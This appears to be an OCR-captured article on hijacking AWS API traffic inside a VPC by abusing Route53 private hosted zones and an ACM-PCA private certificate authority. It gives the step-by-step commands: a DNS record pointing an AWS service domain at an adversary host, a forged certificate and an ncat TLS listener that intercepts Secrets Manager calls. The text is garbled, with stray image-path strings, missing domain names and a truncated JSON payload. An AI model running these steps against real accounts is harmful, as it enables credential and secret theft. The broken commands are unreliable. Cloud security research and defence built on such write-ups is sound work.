Skip to content

Article by Patryk Bogusz.

AWS API Call Hijacking via ACM-PCA

Original Research: niebardzo - Hijacking AWS API Calls

Required IAM Permission: route53:CreateHostedZone, route53:ChangeResourceRecordSets, acm-pca:IssueCertificate, acm-pca:GetCertificate
Recommended but not required: route53:GetHostedZone, route53:ListHostedZones, acm-pca:ListCertificateAuthorities, ec2:DescribeVpcs (may be useful for enumeration, but are not requires as the info can be enumerated in other ways)


To perform this attack the target account must already have an AWS Certificate Manager Private Certificate Authority (AWS-PCA) setup in the account, and EC2 instances in the VPC(s) must have already imported the certificates to trust it. With this infrastructure in place, the following attack can be performed to intercept AWS API traffic.

Assuming there is an AWS VPC with multiple cloud-native applications talking to each other and to AWS API. Since the communication between the microservices is often TLS encrypted there must be a private CA to issue the valid certificates for those services. If ACM-PCA is used for that and the adversary manages to get access to control both route53 and acm-pca private CA with the minimum set of permissions described above, it can hijack the application calls to AWS API taking over their IAM permissions.

This is possible because:

  • AWS SDKs do not have Certificate Pinning
  • Route53 allowscreating Private Hosted Zone and DNS records for AWS APIs domain names
  • Private CA in ACM-PCA cannot be restricted to signing only certificates for specific Common Names

For example, Secrets Manager in us-east-1 could be re-routed by an adversary setting the domain to an IP controlled by the adversary. The following creates the private hosted zone for

aws route53 create-hosted-zone --name --caller-reference sm4 --hosted-zone-configPrivateZone=true --vpc VPCRegion=us-east-1,VPCId=<VPCId>

Then set the A record for in this private hosted zone. Use the following POST body payload - mitm.json:

  "Comment": "<anything>",
  "Changes": [{
    "Action": "UPSERT",
    "ResourceRecordSet": {
      "Name": "",
      "Type": "A",
      "TTL": 0,
      "ResourceRecords": [{"Value": "<ip_of_adversary_instance_in_the_VPC>"}]

One set TTL to 0 to avoid DNS caching. Then, the advisory uses this payload to change-resource-record-sets:

aws route53 change-resource-record-sets --hosted-zone-id <id_returned_by_previous_API_call> --change-batch file://mitm.json

Now, the adversary must generate the CSR and send it for signing to the ACM-PCA, CSR and private key can be generated with OpenSSL:

openssl req -new -newkey rsa:2048 -nodes -keyout your_domain.key -out your_domain.csr

For CN (Common Name), one must provide Then one sends the CSR to acm-pca to issue the certificate:aws acm-pca issue-certificate --certificate-authority-arn "<arn_of_ca_used_within_vpc>" --csr file://your_domain.csr --signing-algorithm SHA256WITHRSA --validity Value=365,Type="DAYS" --idempotency-token 1234

It returns the signed certificate ARN in the response. The next call is to fetch the certificate.

aws acm-pca get-certificate --certificate-arn "<cert_arn_from_previous_response>" --certificate-authority-arn "<arn_of_ca_used_within_vpc>"

Once one got the signed certificate on the disk as cert.crt, the adversary starts the listener or 443/TCP and sniffs the calls to the

sudo ncat --listen -p 443 --ssl --ssl-cert cert.crt --ssl-key your_domain.key -v

The calls can be then forwarded to the Secrets Manager VPCE to for example GetSecretValue and get unauthorized access to the data. The same action can be done with any AWS API calledfrom the VPC - S3, KMS, etc.